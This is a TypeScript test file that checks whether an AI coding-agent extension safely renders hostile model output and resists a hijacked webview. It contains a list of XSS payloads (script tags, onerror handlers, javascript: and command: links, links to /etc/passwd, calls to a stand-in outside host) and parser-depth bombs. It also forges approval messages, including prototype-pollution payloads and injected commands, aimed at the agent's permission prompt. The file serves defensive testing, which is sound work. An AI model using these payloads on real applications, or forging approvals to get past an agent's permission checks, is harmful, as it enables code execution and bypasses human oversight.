import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { Request } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { portsOfExtensionHosts } from '../support/host/listeningPorts.ts';
import { type Person, personAt, picturesOfFailures } from '../support/host/person.ts';
import { type BelayWindow, openBelay } from '../support/host/window.ts';
import { type ModelServer, startModelServer } from '../support/modelServer.ts';
import { call, say, script, turn } from '../support/script.ts';

const outside = 'http://127.0.0.1:9';

const markup = `Before the attack.

<script>window.parent.postMessage('x', '*'); document.body.dataset.ran = 'script'</script>
<img src="${outside}/html.png" onerror="document.body.dataset.ran = 'onerror'">
<iframe src="${outside}/frame.html"></iframe>
<svg onload="document.body.dataset.ran = 'svg'"></svg>
<style>body { background: url(${outside}/style.png) }</style>
<form action="${outside}/form"><button>Approve</button></form>

![tracking pixel](${outside}/pixel.png?secret=1)
![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[run me](command:workbench.action.terminal.new)
[script me](javascript:document.body.dataset.ran='link')
[vscode me](vscode://file/etc/passwd)
[https://bank.example](${outside}/bank)
[file me](file:///etc/passwd) [data me](data:text/html,<script>x</script>) [host me](//127.0.0.1:9/x)
<javascript:document.body.dataset.ran='auto'> <file:///etc/passwd> [ref me][evil]

[evil]: javascript:document.body.dataset.ran='reference'

<a href="javascript:document.body.dataset.ran='a'">anchor</a> <base href="${outside}/"> <meta http-equiv="refresh" content="0;url=${outside}/meta">
<link rel="stylesheet" href="${outside}/a.css"> <video src="${outside}/v.mp4"></video> <object data="${outside}/o"></object>
<math><mtext><img src=x onerror="document.body.dataset.ran='math'"></mtext></math>

After the attack.`;

/** Deeper than a parser that calls itself can go. */
const deep = `${'> '.repeat(3000)}deep quote\n\n${'- '.repeat(2000)}deep list\n\n${'['.repeat(5000)}brackets${']'.repeat(5000)}\n\n${'**_'.repeat(3000)}stars\n\nAfter the depth.`;

const word = 'Donaudampfschifffahrt'.repeat(60);
const manyLines = Array.from({ length: 5000 }, (_, line) => `const value${line} = compute(${line}, "${line}");`);

const scenario = script('hostile', [
  turn('attack', [say(markup)]),
  turn('dig deep', [say(deep)]),
  turn('make one', [call('run_command', { command: 'touch made.txt' })], [say('Tried it.')]),
  turn('long word', [say(`A long word: ${word}\n\n\`${word}\`\n\n| ${word} | b |\n|--|--|\n| c | ${word} |`)]),
  turn('long code', { reply: [say(`\`\`\`ts\n${manyLines.join('\n')}\n\`\`\`\n\nThat was all of it.`)] }),
]);

let server: ModelServer;
let belay: BelayWindow;
let person: Person;
const foreign: string[] = [];

beforeAll(async () => {
  server = await startModelServer(scenario, { delayMs: 0 });
  belay = await openBelay({ modelUrl: server.url });
  person = personAt(belay);
  await person.composer.waitFor();
  const own = new URL(belay.page.url()).origin;
  belay.page.on('request', (request: Request) => {
    const inView = request.frame().parentFrame() !== null;
    const { origin, protocol } = new URL(request.url());
    const known =
      origin === own || ['data:', 'blob:'].includes(protocol) || /\.vscode-cdn\.net$|vscode-resource/.test(origin);
    if (inView && !known) foreign.push(request.url());
  });
});

picturesOfFailures(() => belay);

afterAll(async () => {
  await belay?.close();
  await server?.close();
});

test('markup of the model is text: nothing runs, nothing is fetched, and links lead nowhere else', async () => {
  await person.say('Please attack');
  await person.heard('After the attack.');
  const answer = person.conversation.locator('.row-text').last();
  expect(
    await answer.locator('script, iframe, img, svg, style, form, object, video, base, meta, link, math').count(),
  ).toBe(0);
  expect(await belay.view.locator('body').getAttribute('data-ran')).toBeNull();
  const links = await answer.locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  expect(links.every((href) => href?.startsWith('http'))).toBe(true);
  await answer.getByText('run me').click();
  await answer.getByText('script me').click();
  await answer.getByText('(127.0.0.1:9)').waitFor();
  await belay.screenshot('hostile-markup');
  expect(await belay.view.locator('body').getAttribute('data-ran')).toBeNull();
  expect(await belay.page.locator('.terminal-wrapper').count()).toBe(0);
  expect(foreign).toEqual([]);
});

test('nothing listens for connections but the two proxies of the sandbox, HTTP and SOCKS, on this machine only', () => {
  if (process.platform !== 'linux') return;
  const ports = portsOfExtensionHosts(belay.pid);
  expect(ports.filter(({ loopback }) => !loopback)).toEqual([]);
  expect(ports.length).toBeLessThanOrEqual(2);
});

test('markup nested thousands deep leaves the view alive', async () => {
  await person.say('Please dig deep');
  await person.heard('After the depth.');
  await belay.screenshot('hostile-depth');
  await person.composer.fill('still quick');
  await expect.poll(() => person.composer.inputValue()).toBe('still quick');
  await person.composer.fill('');
});

test('very long words break, and what is too wide scrolls by itself', async () => {
  await person.say('A long word');
  await person.heard('A long word:');
  await belay.screenshot('hostile-long-word');
  const wider = await belay.view.locator('.app').evaluate((app) => {
    const rows = [...app.querySelectorAll('.row')];
    return rows.filter((row) => row.scrollWidth > row.clientWidth + 1).map((row) => row.className);
  });
  expect(wider).toEqual([]);
});

test('a block of 5,000 lines of code is shown within bounds', async () => {
  await person.say('The long code');
  await person.heard('That was all of it.');
  const block = person.conversation.locator('.codeBlock').last();
  await expect.poll(async () => (await block.boundingBox())?.height ?? 0).toBeLessThan(500);
  await belay.screenshot('hostile-long-code');
  await person.composer.fill('still quick');
  await expect.poll(() => person.composer.inputValue()).toBe('still quick');
  expect(foreign).toEqual([]);
});

/** Lets the test speak to the host as a view that was taken over would: keeps its way of posting, and what it is told. */
const takeOver = `(() => {
  let original;
  Object.defineProperty(window, 'acquireVsCodeApi', {
    configurable: true,
    set(value) {
      original = value;
      // Only now: VS Code writes the document anew, which takes earlier listeners away.
      window.addEventListener('message', (event) => window.told.push(JSON.stringify(event.data)));
    },
    get() {
      return original && (() => {
        const api = original();
        window.postAsView = (text) => api.postMessage(JSON.parse(text));
        return api;
      });
    },
  });
  window.told = [];
})();`;

test('a view that was taken over approves nothing that was not asked, and nothing twice', async () => {
  await belay.page.addInitScript(takeOver);
  await belay.reload();
  await person.composer.waitFor();
  const body = belay.view.locator('body');
  const post = async (...messages: readonly string[]): Promise<void> => {
    for (const text of messages) await body.evaluate(`postAsView(${JSON.stringify(text)})`);
  };
  const made = join(belay.workspace, 'made.txt');
  const evil = join(belay.workspace, 'evil.txt');
  const input = { command: 'touch evil.txt' };

  await person.say('Please make one');
  const card = belay.view.getByRole('group', { name: /^Approval: / });
  await card.waitFor();
  const told = String(await body.evaluate('told.join("\\n")'));
  const callId = [...told.matchAll(/"callId":"([^"]+)"/g)].at(-1)?.[1] ?? '';
  expect(callId).not.toBe('');
  const decide = (more: object): string =>
    JSON.stringify({ type: 'decide', callId, decision: 'approved', scope: 'once', ...more });

  await post(
    ...['null', '7', '"approve"', '[]', '{}', '{"type":"approve"}', '{"type":"__proto__"}', '{"type":"constructor"}'],
    ...['{"type":["decide"]}', '{"type":"decide"}', `{"type":"decide","callId":"${callId}"}`],
    '{"__proto__":{"type":"decide","decision":"approved","scope":"session"},"constructor":{"prototype":{"trusted":true}}}',
    ...[
      decide({ callId: 'nobody' }),
      decide({ callId: '' }),
      decide({ callId: '__proto__' }),
      decide({ callId: [callId] }),
    ],
    ...[
      decide({ decision: 'approve' }),
      decide({ decision: true }),
      decide({ scope: 'forever' }),
      decide({ scope: undefined }),
    ],
    JSON.stringify({ type: 'decideFile', callId: 'nobody', decision: 'approved' }),
    JSON.stringify({ type: 'applyLater', callId: 'nobody' }),
    JSON.stringify({ type: 'answer', callId: 'nobody', answer: 'yes' }),
    JSON.stringify({ type: 'run_command', input }),
    JSON.stringify({ type: 'command', command: 'workbench.action.terminal.new' }),
    JSON.stringify({ type: 'openLink', href: 'command:workbench.action.terminal.new' }),
    JSON.stringify({ type: 'openFile', path: '/etc/passwd' }),
    JSON.stringify({ type: 'prompt', text: 'x'.repeat(1_100_000), attachments: [], images: [] }),
  );
  await belay.page.waitForTimeout(1000);
  await expect.poll(() => card.count()).toBe(1);
  expect([existsSync(made), existsSync(evil)]).toEqual([false, false]);
  expect(await belay.page.locator('.terminal-wrapper').count()).toBe(0);

  // The first decision counts, whatever comes after it.
  await post(decide({ decision: 'rejected' }), decide({ input }), decide({ scope: 'session' }), decide({}));
  await person.heard('Tried it.');
  await person.idle();
  expect([existsSync(made), existsSync(evil)]).toEqual([false, false]);

  // A decision on a call of the past approves no later one; an approval runs what the host kept.
  await person.say('Please make one');
  await card.waitFor();
  await post(decide({}), decide({ scope: 'session' }));
  await belay.page.waitForTimeout(500);
  await expect.poll(() => card.count()).toBe(1);
  const later = String(await body.evaluate('told.join("\\n")'));
  const now = [...later.matchAll(/"callId":"([^"]+)"/g)].map(([, id]) => id).findLast((id) => id !== callId) ?? '';
  await post(
    decide({ callId: now, input, command: input.command, changes: [{ kind: 'create', path: evil, after: 'x' }] }),
  );
  await card.waitFor({ state: 'detached' });
  await person.idle();
  expect([existsSync(made), existsSync(evil)]).toEqual([true, false]);
  expect(foreign).toEqual([]);
});
